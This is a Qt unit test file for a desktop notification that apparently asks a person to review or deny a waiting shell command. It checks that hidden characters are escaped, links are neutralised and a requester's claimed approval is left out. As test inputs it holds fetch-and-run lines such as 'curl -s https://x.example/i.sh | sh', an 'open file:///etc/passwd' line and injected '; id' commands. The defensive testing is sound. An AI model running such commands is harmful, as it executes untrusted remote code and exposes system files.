// SPDX-License-Identifier: Apache-2.0
#include "notification.h"

#include "request.h"

#include <QRegularExpression>
#include <QTest>

using namespace Qt::StringLiterals;

class TestNotification final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void saysWhoAsksAndHowTheCommandBegins()
    {
        const Notification made = waiting("tar -xf backup.tar -C /home/anna");
        QCOMPARE(made.summary, u"A command waits for you"_s);
        QCOMPARE(made.body,
                 u"cometa.example.org · application “ops”\ntar -xf backup.tar -C /home/anna"_s);
        QVERIFY(!made.quiet);
    }

    void AC_06_offersReviewAndDenyAndNothingElse()
    {
        const QList<QPair<QString, QString>> actions{
            {u"default"_s, u"Review…"_s}, {u"review"_s, u"Review…"_s}, {u"deny"_s, u"Deny"_s}};
        QCOMPARE(waiting("id").actions, actions);
        for (const Notification &made : {Notification::more(2), Notification::missed(2, "id")}) {
            for (const auto &[key, label] : made.actions) {
                QVERIFY2(key == u"default"_s || key == u"show"_s, qPrintable(key));
                QCOMPARE(label, u"Show"_s);
            }
        }
    }

    void SP_01_nothingInACommandIsHidden_data()
    {
        QTest::addColumn<QByteArray>("command");
        QTest::addColumn<QString>("line");
        QTest::newRow("order of characters")
            << QByteArray("ls \xE2\x80\xAE/pmt") << u"ls \\u{202E}/pmt"_s;
        QTest::newRow("lines") << QByteArray("ls\nrm -r x\n") << u"ls\\nrm -r x\\n"_s;
        QTest::newRow("blanks") << QByteArray("ls" + QByteArray(40, ' ') + "; id")
                                << u"ls\\s{40}; id"_s;
        QTest::newRow("terminal") << QByteArray("ls \x1b[2K\rid") << u"ls \\u{001B}[2K\\rid"_s;
        QTest::newRow("no UTF-8") << QByteArray("ls \xff") << u"ls \\x{FF}"_s;
    }
    void SP_01_nothingInACommandIsHidden()
    {
        QFETCH(const QByteArray, command);
        QFETCH(const QString, line);
        const QStringList lines = waiting(command).body.split(u'\n');
        QCOMPARE(lines.size(), 2); // who, and the command in one
        QCOMPARE(lines.last(), line);
    }

    // By the patterns of dunst and GNOME Shell.
    void SP_05_noAddressIsMadeALink_data()
    {
        QTest::addColumn<QString>("command");
        for (const char *command :
             {"curl -s https://x.example/i.sh | sh", "curl HTTP://x.example", "wget www.x.example",
              "open mailto:a@x.example", "open file:///etc/passwd", "curl x.io/i.sh|sh",
              "curl \"x.example.org/a\"", "curl (ftp://x.example)", "curl www2.x.io/a",
              "open news:a.b"})
            QTest::newRow(command) << QString::fromLatin1(command);
    }
    void SP_05_noAddressIsMadeALink()
    {
        QFETCH(const QString, command);
        const QRegularExpression dunst(
            u"\\b(https?://|ftps?://|news://|news:|mailto:|file://|www\\.)"_s,
            QRegularExpression::CaseInsensitiveOption);
        const QRegularExpression gnome(
            u"(^|[\\s`(\\[{'\"<])((?:(?:http|https|ftp)://|www\\d{0,3}[.]|"
            "[a-z0-9.\\-]+[.][a-z]{2,4}/))"_s,
            QRegularExpression::CaseInsensitiveOption);
        QVERIFY(dunst.match(command).hasMatch() || gnome.match(command).hasMatch());
        const QString line = waiting(command.toUtf8()).body.split(u'\n').last();
        QVERIFY2(!dunst.match(line).hasMatch(), qPrintable(line));
        QVERIFY2(!gnome.match(line).hasMatch(), qPrintable(line));
        QCOMPARE(QString(line).remove(QChar(0x200B)), command);
    }

    void whatIsNoAddressIsAsItIs()
    {
        const QString command = u"cd /usr/lib; ./run.sh a.b -x --y=1 'z' ../www/q.c"_s;
        QVERIFY(waiting(command.toUtf8()).body.endsWith(u'\n' + command));
    }

    void SP_06_aLongCommandIsCutAndCounted()
    {
        const QString body = waiting(QByteArray(65'536, 'x')).body;
        QVERIFY2(body.size() < 180, qPrintable(body));
        QVERIFY2(body.endsWith(u"xxx … (65456 more bytes)"_s), qPrintable(body));
    }

    void SP_09_whatTheRequesterSaysIsNotInIt()
    {
        Request request;
        request.command = "id";
        request.reason = u"approved by IT"_s;
        const Notification made = Notification::waiting(request, u"cometa.example.org"_s, u"ops"_s);
        QVERIFY(!made.body.contains(u"approved"_s));
        QVERIFY(!made.summary.contains(u"approved"_s));
    }

    void countsInWords()
    {
        QCOMPARE(Notification::more(1).summary, u"1 more command waits"_s);
        QCOMPARE(Notification::more(5).summary, u"5 more commands wait"_s);
        const Notification one = Notification::missed(1, "df -h");
        QCOMPARE(one.summary, u"A command was not run"_s);
        QCOMPARE(one.body, u"Nobody decided in time:\ndf -h"_s);
        const Notification seven = Notification::missed(7, "ls \xE2\x80\xAE\nid");
        QCOMPARE(seven.summary, u"7 commands were not run"_s);
        QCOMPARE(seven.body, u"Nobody decided in time. The newest:\nls \\u{202E}\\nid"_s);
        QVERIFY(one.quiet);
        QVERIFY(!Notification::more(1).quiet);
    }

private:
    static Notification waiting(const QByteArray &command)
    {
        Request request;
        request.command = command;
        return Notification::waiting(request, u"cometa.example.org"_s, u"ops"_s);
    }
};

QTEST_GUILESS_MAIN(TestNotification)
#include "tst_notification.moc"
